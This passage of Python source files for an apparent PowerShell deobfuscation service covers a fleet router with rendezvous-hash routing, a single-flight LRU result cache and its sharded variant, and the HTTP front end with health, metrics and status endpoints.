                f'repro_fleet_routed_total{{instance="{instance}"}} '
                f"{count}"
            )
        lines += [
            "# HELP repro_fleet_fallbacks_total Requests rerouted off a "
            "dead primary via rendezvous hashing.",
            "# TYPE repro_fleet_fallbacks_total counter",
            f"repro_fleet_fallbacks_total {counters['fallbacks']}",
            "# HELP repro_fleet_unroutable_total Requests rejected with "
            "no healthy instance.",
            "# TYPE repro_fleet_unroutable_total counter",
            f"repro_fleet_unroutable_total {counters['rejected']}",
        ]
        self._send_bytes(
            200,
            (text + "\n".join(lines) + "\n").encode("utf-8"),
            "text/plain; version=0.0.4; charset=utf-8",
        )

    def _statusz(self) -> None:
        """Fleet-wide ``/statusz``: the same payload shape as one
        instance, rebuilt from every reachable instance's snapshot —
        counters through ``merge_snapshots``, rolling windows merged
        minute-by-minute (exemplars survive), log tails interleaved by
        timestamp with the router's own events."""
        snapshots: List[Dict[str, Any]] = []
        window_payloads: List[Optional[Dict[str, Any]]] = []
        tail: List[Dict[str, Any]] = []
        for instance in self.state.instances:
            snap = _fetch_json(instance + "/metrics.json", timeout=10.0)
            status = _fetch_json(instance + "/statusz", timeout=10.0)
            if snap is None or status is None:
                self.state.mark_down(instance)
                continue
            snapshots.append(snap)
            window_payloads.append(status.get("window_raw"))
            for event in status.get("log_tail") or []:
                event = dict(event)
                event.setdefault("instance", instance)
                tail.append(event)
        tail.extend(log_tail(limit=40))
        tail.sort(key=lambda event: event.get("ts") or 0)
        payload = build_statusz(
            merge_snapshots(snapshots),
            window=merge_window_dicts(window_payloads),
            log_events=tail[-40:],
            instances=len(snapshots),
        )
        payload["router"] = self.state.counters()
        self._send_json(200, payload)

    # -- routing proxy ------------------------------------------------------

    def do_POST(self) -> None:  # noqa: N802 — stdlib naming
        if not self.path.startswith("/deobfuscate"):
            self._send_json(404, {"error": f"no such path: {self.path}"})
            return
        try:
            length = int(self.headers.get("Content-Length") or 0)
        except ValueError:
            length = -1
        if length < 0:
            self._send_json(400, {"error": "bad or missing Content-Length"})
            return
        body = self.rfile.read(length)
        try:
            payload = json.loads(body or b"")
            script = payload["script"]
            assert isinstance(script, str)
        except (ValueError, KeyError, AssertionError, TypeError):
            self._send_json(
                400, {"error": "expected {\"script\": \"...\"}"}
            )
            return
        key = script_routing_key(script)

        attempts = 0
        while attempts < 2:
            attempts += 1
            picked = self.state.pick(key)
            if picked is None:
                self.state.count_rejected()
                _log.error(
                    "no healthy instance; rejecting request",
                    key=key[:16],
                )
                self._send_json(
                    503,
                    {"error": "no healthy instance"},
                    headers={"Retry-After": "5"},
                )
                return
            instance, fallback = picked
            forwarded = self._forward(instance, body)
            if forwarded is None:
                _log.warning(
                    "forward failed; marking instance down",
                    instance=instance,
                    attempt=attempts,
                    fallback=fallback,
                )
                self.state.mark_down(instance)
                continue
            if fallback:
                _log.debug(
                    "routed via rendezvous fallback",
                    instance=instance,
                    key=key[:16],
                )
            self.state.count_routed(instance, fallback)
            code, headers, response_body = forwarded
            passthrough = {
                name: value
                for name, value in headers
                if name.lower() in ("x-trace-id", "retry-after")
            }
            passthrough["X-Repro-Instance"] = instance
            passthrough["X-Repro-Routing"] = (
                "fallback" if fallback else "primary"
            )
            self._send_bytes(
                code, response_body, "application/json", passthrough
            )
            return
        self.state.count_rejected()
        _log.error(
            "no healthy instance; rejecting request", key=key[:16]
        )
        self._send_json(
            503,
            {"error": "no healthy instance"},
            headers={"Retry-After": "5"},
        )

    def _forward(
        self, instance: str, body: bytes
    ) -> Optional[Tuple[int, List[Tuple[str, str]], bytes]]:
        """Proxy the request to *instance*; None on transport failure."""
        request = urllib.request.Request(
            instance + self.path,
            data=body,
            headers={"Content-Type": "application/json"},
            method="POST",
        )
        traceparent = self.headers.get("traceparent")
        if traceparent:
            request.add_header("traceparent", traceparent)
        try:
            with urllib.request.urlopen(
                request, timeout=_FORWARD_TIMEOUT
            ) as response:
                return (
                    response.status,
                    response.getheaders(),
                    response.read(),
                )
        except urllib.error.HTTPError as error:
            # An HTTP status from the instance (429, 400, 500…) is an
            # *answer*, not a dead instance — pass it through.
            return error.code, error.headers.items(), error.read()
        except (OSError, urllib.error.URLError):
            return None


# --------------------------------------------------------------------------
# instance management
# --------------------------------------------------------------------------

class FleetManager:
    """Spawn and supervise N ``repro serve`` child processes.

    Each instance gets its own ephemeral port (discovered through a
    port file) and its own cache directory under ``cache_root`` —
    restarting instance *k* therefore warm-starts from
    ``cache_root/instance-k``.
    """

    def __init__(
        self,
        instances: int,
        serve_args: Optional[List[str]] = None,
        cache_root: Optional[str] = None,
        workdir: Optional[str] = None,
        host: str = "127.0.0.1",
        serve_log_file: Optional[str] = None,
    ):
        import tempfile

        self.count = max(1, instances)
        self.serve_args = list(serve_args or [])
        self.host = host
        # Event-log file base forwarded to every instance, suffixed
        # per instance so concurrent processes never share a rotation.
        self.serve_log_file = serve_log_file
        self.workdir = workdir or tempfile.mkdtemp(prefix="repro-fleet-")
        self.cache_root = cache_root or os.path.join(
            self.workdir, "cache"
        )
        self.processes: List[subprocess.Popen] = []
        self.urls: List[str] = []

    def instance_command(self, index: int) -> List[str]:
        port_file = os.path.join(self.workdir, f"port-{index}")
        cache_dir = os.path.join(self.cache_root, f"instance-{index}")
        command = [
            sys.executable,
            "-m",
            "repro",
            "serve",
            "--host",
            self.host,
            "--port",
            "0",
            "--port-file",
            port_file,
            "--cache-dir",
            cache_dir,
            *self.serve_args,
        ]
        if self.serve_log_file:
            command += [
                "--log-file",
                f"{self.serve_log_file}.instance-{index}",
            ]
        return command

    def start(self, startup_timeout: float = 30.0) -> List[str]:
        os.makedirs(self.workdir, exist_ok=True)
        for index in range(self.count):
            port_file = os.path.join(self.workdir, f"port-{index}")
            if os.path.exists(port_file):
                os.unlink(port_file)
            log = open(
                os.path.join(self.workdir, f"serve-{index}.log"), "ab"
            )
            self.processes.append(
                subprocess.Popen(
                    self.instance_command(index),
                    stdout=log,
                    stderr=log,
                )
            )
            log.close()
        deadline = time.monotonic() + startup_timeout
        self.urls = []
        for index, process in enumerate(self.processes):
            port_file = os.path.join(self.workdir, f"port-{index}")
            while not os.path.exists(port_file):
                if process.poll() is not None:
                    raise RuntimeError(
                        f"instance {index} died during startup "
                        f"(exit {process.returncode}); see "
                        f"{self.workdir}/serve-{index}.log"
                    )
                if time.monotonic() > deadline:
                    raise RuntimeError(
                        f"instance {index} did not report a port within "
                        f"{startup_timeout}s"
                    )
                time.sleep(0.05)
            with open(port_file, "r", encoding="utf-8") as handle:
                port = int(handle.read().strip())
            self.urls.append(f"http://{self.host}:{port}")
        return self.urls

    def stop(self, timeout: float = 30.0) -> bool:
        """SIGTERM every instance (graceful drain); True if all exit 0."""
        for process in self.processes:
            if process.poll() is None:
                process.send_signal(signal.SIGTERM)
        clean = True
        deadline = time.monotonic() + timeout
        for process in self.processes:
            remaining = max(0.1, deadline - time.monotonic())
            try:
                clean &= process.wait(timeout=remaining) == 0
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
                clean = False
        self.processes = []
        return clean


def run_fleet(
    instances: int,
    host: str = "127.0.0.1",
    port: int = 8765,
    port_file: Optional[str] = None,
    serve_args: Optional[List[str]] = None,
    cache_root: Optional[str] = None,
    workdir: Optional[str] = None,
    replicas: int = DEFAULT_REPLICAS,
    quiet: bool = True,
    serve_log_file: Optional[str] = None,
) -> int:
    """Blocking ``repro fleet`` body: instances + router + drain."""
    manager = FleetManager(
        instances,
        serve_args=serve_args,
        cache_root=cache_root,
        workdir=workdir,
        host=host,
        serve_log_file=serve_log_file,
    )
    try:
        urls = manager.start()
    except RuntimeError as exc:
        print(f"error: {exc}", file=sys.stderr)
        manager.stop(timeout=5.0)
        return 1
    state = FleetState(urls, replicas=replicas)
    try:
        server = FleetHTTPServer((host, port), state, quiet=quiet)
    except OSError as exc:
        print(f"error: cannot bind {host}:{port}: {exc}", file=sys.stderr)
        manager.stop(timeout=10.0)
        return 1
    bound_host, bound_port = server.server_address[:2]
    if port_file:
        with open(port_file, "w", encoding="utf-8") as handle:
            handle.write(str(bound_port))
    print(
        f"repro fleet: routing http://{bound_host}:{bound_port} -> "
        f"{len(urls)} instance(s): {', '.join(urls)}",
        file=sys.stderr,
        flush=True,
    )
    _log.info(
        "fleet router started",
        instances=len(urls),
        port=bound_port,
    )
    prober = _HealthProber(state)
    prober.start()
    thread = threading.Thread(
        target=server.serve_forever, name="repro-fleet-http", daemon=True
    )
    thread.start()

    stop = threading.Event()

    def _request_shutdown(signum, frame):
        stop.set()

    previous = {}
    for signum in (signal.SIGTERM, signal.SIGINT):
        previous[signum] = signal.signal(signum, _request_shutdown)
    try:
        stop.wait()
    finally:
        for signum, handler in previous.items():
            signal.signal(signum, handler)

    print("repro fleet: draining instances…", file=sys.stderr, flush=True)
    prober.stop_event.set()
    server.shutdown()
    thread.join(timeout=10.0)
    server.server_close()
    clean = manager.stop()
    print(
        "repro fleet: drained cleanly"
        if clean
        else "repro fleet: some instances did not drain cleanly",
        file=sys.stderr,
        flush=True,
    )
    return 0 if clean else 1
