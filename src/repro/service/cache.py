"""Content-addressed result cache with single-flight deduplication.

Wild corpora are heavily duplicated — the same droppers and loaders
recur across submissions — so an online deobfuscation service wins most
of its throughput by never running the pipeline twice for the same
input.  Two mechanisms, one lock:

content addressing
    :func:`cache_key` hashes the *normalized* source (BOM stripped,
    newlines canonicalized, surrounding whitespace trimmed — all
    semantics-free in PowerShell) together with the pipeline options,
    so byte-trivial resubmissions of the same script hit, while the
    same script under different options (``rename`` off, say) does not
    serve the wrong result.

bounded LRU
    :class:`ResultCache` holds at most ``max_entries`` results and at
    most ``max_bytes`` of (approximate JSON-serialized) payload,
    evicting least-recently-used entries; a single result larger than
    the byte budget is simply not stored.

single-flight
    :meth:`ResultCache.lookup` atomically resolves a key to one of
    ``hit`` (cached result), ``lead`` (caller must run the pipeline
    and later call :meth:`resolve`), or ``join`` (another caller is
    already running it — wait on the returned :class:`Flight`).  N
    concurrent identical submissions therefore execute the pipeline
    exactly once; the other N-1 block until the leader's result lands
    and share it.  Results that may be transient (worker ``error``,
    ``timeout``) resolve the flight but are not cached, so a later
    resubmission retries.

The class is thread-safe; ``repro batch --dedup`` uses the same keying
(single-threaded) for offline corpus deduplication.
"""

import hashlib
import json
import threading
from collections import OrderedDict
from typing import Any, Dict, Optional, Tuple

# lookup() outcome tags.
HIT, LEAD, JOIN = "hit", "lead", "join"

DEFAULT_MAX_ENTRIES = 4096
DEFAULT_MAX_BYTES = 256 * 1024 * 1024


def normalize_source(source: str) -> str:
    """Canonical text for hashing: semantics-preserving trivia removed.

    Strips a UTF-8 BOM, normalizes CRLF/CR to LF, and trims leading and
    trailing whitespace — none of which change what a PowerShell script
    does, but all of which differ across resubmissions of the same
    sample (mail gateways re-encode, sandboxes append newlines).
    """
    text = source.replace("\r\n", "\n").replace("\r", "\n")
    if text.startswith("\ufeff"):
        text = text[1:]
    return text.strip()


def cache_key(source: str, options: Optional[Dict[str, Any]] = None) -> str:
    """SHA-256 hex digest identifying (normalized source, options)."""
    digest = hashlib.sha256()
    digest.update(normalize_source(source).encode("utf-8"))
    if options:
        digest.update(b"\x00")
        digest.update(
            json.dumps(options, sort_keys=True, default=str).encode("utf-8")
        )
    return digest.hexdigest()


def _entry_bytes(value: Any) -> int:
    """Approximate retained size: the JSON wire size of the record."""
    try:
        return len(json.dumps(value, default=str))
    except (TypeError, ValueError):
        return 0


class Flight:
    """One in-progress pipeline execution that waiters can share."""

    __slots__ = ("event", "record", "waiters")

    def __init__(self):
        self.event = threading.Event()
        self.record: Optional[dict] = None
        self.waiters = 0

    def wait(self, timeout: Optional[float] = None) -> Optional[dict]:
        """Block until the leader resolves; None on timeout."""
        if not self.event.wait(timeout):
            return None
        return self.record


class ResultCache:
    """Bounded LRU over deobfuscation results, with single-flight.

    ``max_entries=0`` (or ``max_bytes=0``) disables storage but keeps
    the single-flight semantics — concurrent duplicates still run
    once.  Counters (``hits``, ``misses``, ``coalesced``,
    ``evictions``) are lifetime totals, exported by the service's
    ``/metrics``.
    """

    def __init__(
        self,
        max_entries: int = DEFAULT_MAX_ENTRIES,
        max_bytes: int = DEFAULT_MAX_BYTES,
    ):
        self.max_entries = max(0, max_entries)
        self.max_bytes = max(0, max_bytes)
        self._lock = threading.Lock()
        self._entries: "OrderedDict[str, Tuple[dict, int]]" = OrderedDict()
        self._flights: Dict[str, Flight] = {}
        self.current_bytes = 0
        self.hits = 0
        self.misses = 0
        self.coalesced = 0
        self.evictions = 0

    # -- plain cache interface ---------------------------------------------

    def __len__(self) -> int:
        return len(self._entries)

    def get(self, key: str) -> Optional[dict]:
        """The cached record for *key*, refreshing its recency."""
        with self._lock:
            return self._get_locked(key)

    def put(self, key: str, record: dict) -> None:
        """Store *record* under *key*, evicting LRU entries as needed."""
        with self._lock:
            self._put_locked(key, record)

    # -- single-flight interface -------------------------------------------

    def lookup(self, key: str) -> Tuple[str, Optional[Any]]:
        """Atomically classify *key*: ``(HIT, record)``,
        ``(JOIN, flight)``, or ``(LEAD, flight)``.

        A ``LEAD`` caller owns the execution and MUST eventually call
        :meth:`resolve` (or :meth:`abandon`) for the key, or joiners
        will block until their wait timeout.
        """
        with self._lock:
            record = self._get_locked(key)
            if record is not None:
                return HIT, record
            flight = self._flights.get(key)
            if flight is not None:
                flight.waiters += 1
                self.coalesced += 1
                return JOIN, flight
            flight = Flight()
            self._flights[key] = flight
            return LEAD, flight

    def resolve(self, key: str, record: dict, cacheable: bool = True) -> None:
        """Leader's completion: publish *record* to waiters and (when
        *cacheable*) store it — atomically, so no concurrent lookup can
        slip between flight removal and cache insert and re-execute."""
        with self._lock:
            flight = self._flights.pop(key, None)
            if cacheable:
                self._put_locked(key, record)
            if flight is not None:
                flight.record = record
                flight.event.set()

    def abandon(self, key: str) -> None:
        """Leader's bail-out (admission rejected, internal error):
        wake waiters with no record so they can fail fast."""
        with self._lock:
            flight = self._flights.pop(key, None)
            if flight is not None:
                flight.event.set()

    @property
    def in_flight(self) -> int:
        return len(self._flights)

    def snapshot(self) -> Dict[str, int]:
        """Counter snapshot for ``/metrics``."""
        with self._lock:
            return {
                "entries": len(self._entries),
                "bytes": self.current_bytes,
                "max_entries": self.max_entries,
                "max_bytes": self.max_bytes,
                "hits": self.hits,
                "misses": self.misses,
                "coalesced": self.coalesced,
                "evictions": self.evictions,
                "in_flight": len(self._flights),
            }

    # -- internals (callers hold self._lock) --------------------------------

    def _get_locked(self, key: str) -> Optional[dict]:
        entry = self._entries.get(key)
        if entry is None:
            self.misses += 1
            return None
        self._entries.move_to_end(key)
        self.hits += 1
        return entry[0]

    def _put_locked(self, key: str, record: dict) -> None:
        if self.max_entries == 0 or self.max_bytes == 0:
            return
        size = _entry_bytes(record)
        if size > self.max_bytes:
            return
        old = self._entries.pop(key, None)
        if old is not None:
            self.current_bytes -= old[1]
        self._entries[key] = (record, size)
        self.current_bytes += size
        while (
            len(self._entries) > self.max_entries
            or self.current_bytes > self.max_bytes
        ):
            _evicted_key, (_record, evicted_size) = self._entries.popitem(
                last=False
            )
            self.current_bytes -= evicted_size
            self.evictions += 1
