"""Sharded result cache: N independent LRUs behind one key space.

One :class:`~repro.service.cache.ResultCache` serializes every lookup
behind a single lock — fine for one box, but the fleet tier pushes
hundreds of concurrent front-end tasks through the cache, and a single
hot lock becomes the first scaling wall.  :class:`ShardedResultCache`
splits the key space into ``shards`` independent
:class:`ResultCache` instances, each with its own lock and its own
slice of the entry/byte budget.  The cache key is already a SHA-256
hex digest (:func:`repro.service.cache.cache_key`), so the shard
index is just the key's leading 64 bits modulo the shard count —
uniform by construction, deterministic across restarts, and the same
placement function the fleet router uses across *instances*
(:mod:`repro.service.fleet`): hash once, route everywhere.

The interface is a superset of :class:`ResultCache` (lookup/resolve/
abandon/get/put/snapshot), so :class:`DeobfuscationService` treats
either interchangeably.  Single-flight state lives inside each shard;
two requests for the same key always land on the same shard, so the
coalescing guarantee is unchanged.

Persistence (:mod:`repro.service.persist`) hooks in at this layer:
:meth:`entries` iterates every stored record for snapshotting, and
:meth:`load` replays warm-start records without touching the hit/miss
counters.
"""

import threading
from typing import Any, Dict, Iterator, List, Optional, Tuple

from repro.service.cache import (
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_ENTRIES,
    ResultCache,
)

DEFAULT_SHARDS = 8


def shard_index(key: str, shards: int) -> int:
    """Deterministic shard for a hex cache key: leading 64 bits mod N.

    The key is a SHA-256 hex digest, so any fixed slice is uniformly
    distributed; the leading 16 hex chars keep the computation a
    single ``int()``.
    """
    return int(key[:16], 16) % shards


class ShardedResultCache:
    """``shards`` independent :class:`ResultCache` LRUs, one key space.

    The entry and byte budgets are split evenly across shards (each
    shard gets at least one entry), so the aggregate bounds match a
    single cache of the same configuration to within rounding.
    ``shards=1`` degenerates to a plain :class:`ResultCache` with an
    extra method call — the service uses the class unconditionally.
    """

    def __init__(
        self,
        max_entries: int = DEFAULT_MAX_ENTRIES,
        max_bytes: int = DEFAULT_MAX_BYTES,
        shards: int = DEFAULT_SHARDS,
    ):
        self.shards = max(1, int(shards))
        self.max_entries = max(0, max_entries)
        self.max_bytes = max(0, max_bytes)
        per_entries = (
            max(1, self.max_entries // self.shards)
            if self.max_entries
            else 0
        )
        per_bytes = (
            max(1, self.max_bytes // self.shards) if self.max_bytes else 0
        )
        self._shards: List[ResultCache] = [
            ResultCache(max_entries=per_entries, max_bytes=per_bytes)
            for _ in range(self.shards)
        ]
        # Warm-start accounting (filled by load()); reads are atomic.
        self.loaded_entries = 0
        self._load_lock = threading.Lock()

    # -- routing ------------------------------------------------------------

    def shard_for(self, key: str) -> ResultCache:
        return self._shards[shard_index(key, self.shards)]

    # -- ResultCache-compatible interface -----------------------------------

    def __len__(self) -> int:
        return sum(len(shard) for shard in self._shards)

    def get(self, key: str) -> Optional[dict]:
        return self.shard_for(key).get(key)

    def put(self, key: str, record: dict) -> None:
        self.shard_for(key).put(key, record)

    def lookup(self, key: str) -> Tuple[str, Optional[Any]]:
        return self.shard_for(key).lookup(key)

    def resolve(self, key: str, record: dict, cacheable: bool = True) -> None:
        self.shard_for(key).resolve(key, record, cacheable=cacheable)

    def abandon(self, key: str) -> None:
        self.shard_for(key).abandon(key)

    @property
    def in_flight(self) -> int:
        return sum(shard.in_flight for shard in self._shards)

    @property
    def current_bytes(self) -> int:
        return sum(shard.current_bytes for shard in self._shards)

    def snapshot(self) -> Dict[str, Any]:
        """Aggregate counters plus a compact per-shard breakdown."""
        totals = {
            "entries": 0,
            "bytes": 0,
            "hits": 0,
            "misses": 0,
            "coalesced": 0,
            "evictions": 0,
            "in_flight": 0,
        }
        per_shard_entries = []
        for shard in self._shards:
            snap = shard.snapshot()
            for field in totals:
                totals[field] += snap[field]
            per_shard_entries.append(snap["entries"])
        totals["max_entries"] = self.max_entries
        totals["max_bytes"] = self.max_bytes
        totals["shards"] = self.shards
        totals["shard_entries"] = per_shard_entries
        totals["loaded_entries"] = self.loaded_entries
        return totals

    # -- persistence hooks --------------------------------------------------

    def entries(self) -> Iterator[Tuple[str, dict]]:
        """Every stored ``(key, record)``, LRU-first within each shard.

        Used by the persistence snapshot writer; iteration copies each
        shard's items under its lock, so a concurrent request can at
        worst miss an entry that was being inserted mid-snapshot.
        """
        for shard in self._shards:
            with shard._lock:
                items = [
                    (key, entry[0])
                    for key, entry in shard._entries.items()
                ]
            yield from items

    def load(self, pairs: Iterator[Tuple[str, dict]]) -> int:
        """Warm-start: insert ``(key, record)`` pairs, returning how
        many were stored (budget evictions may drop the oldest)."""
        with self._load_lock:
            stored = 0
            for key, record in pairs:
                shard = self.shard_for(key)
                shard.put(key, record)
                with shard._lock:
                    if key in shard._entries:
                        stored += 1
            self.loaded_entries += stored
            return stored
