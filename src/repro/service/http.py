"""The stdlib HTTP front end for :class:`DeobfuscationService`.

``repro serve`` binds a :class:`ThreadingHTTPServer` (one thread per
connection — the heavy lifting happens in worker *processes*, so
handler threads mostly wait) over these endpoints:

``POST /deobfuscate`` (``?verify=1`` to verify)
    JSON in: ``{"script": str, "rename"?: bool, "reformat"?: bool,
    "policy"?: str, "language"?: str, "timeout"?: float,
    "stats"?: bool, "verify"?: bool}``.  ``policy`` names a
    sandbox-policy preset (:mod:`repro.policy`) and ``language`` a
    registered front end (:mod:`repro.frontend`); both participate in
    the result cache key, and an unknown name of either is a 400
    listing what is registered.  JSON out:
    the batch record schema (status, script, measurements — see
    :mod:`repro.batch`) plus ``cache_key``/``cache_hit``/
    ``coalesced``/``trace_id``; ``"stats": true`` additionally embeds
    the run's ``PipelineStats``.  With ``?verify=1`` (or
    ``"verify": true`` in the body) the record also carries the
    differential semantics-preservation ``verify`` verdict
    (:mod:`repro.verify`).  A W3C ``traceparent`` request header is
    honoured: the request's spans join the caller's trace instead of
    starting a new one, and the response echoes the resulting
    ``trace_id`` in both the JSON record and an ``X-Trace-Id``
    response header.  Status codes: 200 (ok/invalid/timeout results),
    400 (malformed request), 429 + ``Retry-After`` (admission queue
    full), 500 (worker error), 503 (draining).
``GET /healthz``
    Liveness JSON: status, version, worker fleet size, queue depth,
    cache size, uptime.
``GET /metrics``
    Prometheus text format: service counters, cache gauges, worker
    restart counts, and the lifetime pipeline-telemetry aggregates
    (:mod:`repro.service.metrics`).
``GET /statusz``
    The operator's live JSON view: rolling 1m/5m/15m rates and latency
    percentiles, pool size/restarts, cache shard occupancy, warm-start
    info, per-language and per-policy breakdowns, and the recent
    ring-buffer log tail.  ``repro top`` polls and renders it.

:func:`run_server` is the blocking entry point the CLI uses; it
installs SIGTERM/SIGINT handlers that drain gracefully — stop
admitting (503), close the listener, finish in-flight requests, flush
a final metrics snapshot to stderr, exit 0.  Tests embed the server
with :func:`start_server` instead, which returns immediately.
"""

import json
import signal
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Optional, Tuple
from urllib.parse import parse_qs, urlsplit

from repro.batch.pool import (
    register_fork_unsafe_fd,
    unregister_fork_unsafe_fd,
)
from repro.obs.trace import parse_traceparent
from repro.service.core import (
    DeobfuscationService,
    ServiceConfig,
    ServiceUnavailable,
    jittered_retry_after,
)
from repro.service.metrics import render_metrics

_MAX_BODY_BYTES = 16 * 1024 * 1024

# Worker result statuses that map to HTTP 200: the service did its
# job even when the *pipeline* reports a timeout partial or a parse
# failure — those are results, not transport errors.
_OK_STATUSES = ("ok", "invalid", "timeout")


class RequestError(Exception):
    """A malformed ``/deobfuscate`` body; ``payload`` is the 400 JSON."""

    def __init__(self, payload: dict):
        super().__init__(payload.get("error", "bad request"))
        self.payload = payload


def shape_request(
    payload, default_verify: bool = False
) -> Tuple[str, dict, bool, Optional[float]]:
    """Validate a ``/deobfuscate`` JSON body.

    Returns ``(script, options, verify, timeout)``; raises
    :class:`RequestError` with the 400 response payload otherwise.
    ``default_verify`` carries the ``?verify=1`` query flag, which a
    ``"verify"`` body field overrides.  Shared by the threaded and
    asyncio front ends so both speak the same request dialect.
    """
    if not isinstance(payload, dict) or not isinstance(
        payload.get("script"), str
    ):
        raise RequestError({"error": "expected {\"script\": \"...\"}"})
    options = {}
    for flag in ("rename", "reformat"):
        if flag in payload:
            options[flag] = bool(payload[flag])
    if "policy" in payload:
        policy = payload["policy"]
        if not isinstance(policy, str):
            raise RequestError({"error": "policy must be a string"})
        from repro.policy import PolicyError, normalize_policy_name
        from repro.policy.presets import PRESETS

        try:
            name = normalize_policy_name(policy)
            if name not in PRESETS:
                raise PolicyError(name)
        except PolicyError:
            raise RequestError(
                {
                    "error": f"unknown policy: {policy!r}",
                    "policies": sorted(PRESETS),
                }
            ) from None
        options["policy"] = name
    if "language" in payload:
        language = payload["language"]
        if not isinstance(language, str):
            raise RequestError({"error": "language must be a string"})
        from repro.frontend import (
            FrontendError,
            frontend_names,
            normalize_language,
        )

        try:
            options["language"] = normalize_language(language)
        except FrontendError:
            raise RequestError(
                {
                    "error": f"unknown language: {language!r}",
                    "languages": frontend_names(),
                }
            ) from None
    verify = bool(payload.get("verify", default_verify))
    timeout = payload.get("timeout")
    if timeout is not None and not isinstance(timeout, (int, float)):
        raise RequestError({"error": "timeout must be a number"})
    return payload["script"], options, verify, timeout


class ServiceHTTPServer(ThreadingHTTPServer):
    """Threaded HTTP server carrying the service reference.

    ``daemon_threads`` is off and ``block_on_close`` on, so
    ``server_close()`` joins every in-flight handler — the second half
    of graceful drain.
    """

    daemon_threads = False
    block_on_close = True
    # socketserver's default backlog of 5 resets connections under a
    # synchronized burst; accept the burst and let admission control
    # (not the kernel) decide who gets turned away.
    request_queue_size = 128

    def __init__(self, address, service: DeobfuscationService,
                 quiet: bool = True):
        self.service = service
        self.quiet = quiet
        super().__init__(address, _Handler)
        # Keep forked workers from inheriting the listener and holding
        # the port open past server_close().
        self._listen_fd = self.socket.fileno()
        register_fork_unsafe_fd(self._listen_fd)

    def server_close(self):
        unregister_fork_unsafe_fd(self._listen_fd)
        super().server_close()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    @property
    def service(self) -> DeobfuscationService:
        return self.server.service

    # -- plumbing -----------------------------------------------------------

    def log_message(self, format, *args):  # noqa: A002 — stdlib signature
        if not self.server.quiet:
            sys.stderr.write(
                "%s - - %s\n" % (self.address_string(), format % args)
            )

    def _send_json(self, code: int, payload: dict,
                   headers: Optional[dict] = None) -> None:
        body = json.dumps(payload, sort_keys=True).encode("utf-8")
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        try:
            self.wfile.write(body)
        except (BrokenPipeError, ConnectionResetError):
            pass  # client went away; the work is done either way

    def _send_text(self, code: int, text: str, content_type: str) -> None:
        body = text.encode("utf-8")
        self.send_response(code)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except (BrokenPipeError, ConnectionResetError):
            pass

    # -- endpoints ----------------------------------------------------------

    def do_GET(self) -> None:  # noqa: N802 — stdlib naming
        if self.path == "/healthz":
            health = self.service.healthz()
            code = 503 if health["status"] == "draining" else 200
            self._send_json(code, health)
        elif self.path == "/metrics":
            self._send_text(
                200,
                render_metrics(self.service.metrics_snapshot()),
                "text/plain; version=0.0.4; charset=utf-8",
            )
        elif self.path == "/metrics.json":
            # The machine-readable snapshot the fleet router merges
            # across instances (repro.service.fleet).
            self._send_json(200, self.service.metrics_snapshot())
        elif self.path.startswith("/statusz"):
            # The operator's live view: rolling windows, pool state,
            # shard occupancy, per-language/policy breakdowns, and the
            # recent ring-buffer log tail (repro top renders this).
            self._send_json(200, self.service.statusz())
        else:
            self._send_json(404, {"error": f"no such path: {self.path}"})

    def do_POST(self) -> None:  # noqa: N802 — stdlib naming
        url = urlsplit(self.path)
        if url.path != "/deobfuscate":
            self._send_json(404, {"error": f"no such path: {self.path}"})
            return
        query = parse_qs(url.query)
        verify = (query.get("verify") or ["0"])[-1].lower() in (
            "1", "true", "yes",
        )
        try:
            length = int(self.headers.get("Content-Length") or 0)
        except ValueError:
            length = -1
        if length < 0 or length > _MAX_BODY_BYTES:
            self._send_json(400, {"error": "bad or missing Content-Length"})
            return
        try:
            payload = json.loads(self.rfile.read(length) or b"")
        except (ValueError, UnicodeDecodeError):
            self._send_json(400, {"error": "body is not valid JSON"})
            return
        try:
            script, options, verify, timeout = shape_request(
                payload, default_verify=verify
            )
        except RequestError as exc:
            self._send_json(400, exc.payload)
            return

        trace = parse_traceparent(self.headers.get("traceparent") or "")
        try:
            record = self.service.submit(
                script, options=options, timeout=timeout,
                verify=verify, trace=trace,
            )
        except ServiceUnavailable as exc:
            code = 503 if exc.reason == "draining" else 429
            retry_after = jittered_retry_after(exc.retry_after)
            self._send_json(
                code,
                {"error": exc.reason, "retry_after": retry_after},
                headers={"Retry-After": str(retry_after)},
            )
            return

        if not payload.get("stats"):
            record.pop("stats", None)
        code = 200 if record.get("status") in _OK_STATUSES else 500
        headers = None
        trace_id = record.get("trace_id")
        if trace_id:
            headers = {"X-Trace-Id": str(trace_id)}
        self._send_json(code, record, headers=headers)


def start_server(
    service: DeobfuscationService,
    host: str = "127.0.0.1",
    port: int = 0,
    quiet: bool = True,
) -> Tuple[ServiceHTTPServer, threading.Thread]:
    """Start serving in a background thread; return (server, thread).

    ``port=0`` binds an ephemeral port — read the real one from
    ``server.server_address``.  The caller owns shutdown:
    ``server.shutdown(); server.server_close()``.
    """
    service.start()
    server = ServiceHTTPServer((host, port), service, quiet=quiet)
    thread = threading.Thread(
        target=server.serve_forever, name="repro-serve-http", daemon=True
    )
    thread.start()
    return server, thread


def run_server(
    config: ServiceConfig,
    host: str = "127.0.0.1",
    port: int = 8765,
    port_file: Optional[str] = None,
    quiet: bool = True,
) -> int:
    """Blocking ``repro serve`` body with graceful SIGTERM/SIGINT drain."""
    service = DeobfuscationService(config)
    try:
        server, thread = start_server(service, host=host, port=port,
                                      quiet=quiet)
    except OSError as exc:
        print(f"error: cannot bind {host}:{port}: {exc}", file=sys.stderr)
        return 1
    bound_host, bound_port = server.server_address[:2]
    if port_file:
        with open(port_file, "w", encoding="utf-8") as handle:
            handle.write(str(bound_port))
    print(
        f"repro serve: listening on http://{bound_host}:{bound_port} "
        f"({service.config.jobs} workers, "
        f"queue limit {service.config.queue_limit})",
        file=sys.stderr,
        flush=True,
    )

    stop = threading.Event()

    def _request_shutdown(signum, frame):
        service.begin_drain()  # reject new work immediately
        stop.set()

    previous = {}
    for signum in (signal.SIGTERM, signal.SIGINT):
        previous[signum] = signal.signal(signum, _request_shutdown)
    try:
        stop.wait()
    finally:
        for signum, handler in previous.items():
            signal.signal(signum, handler)

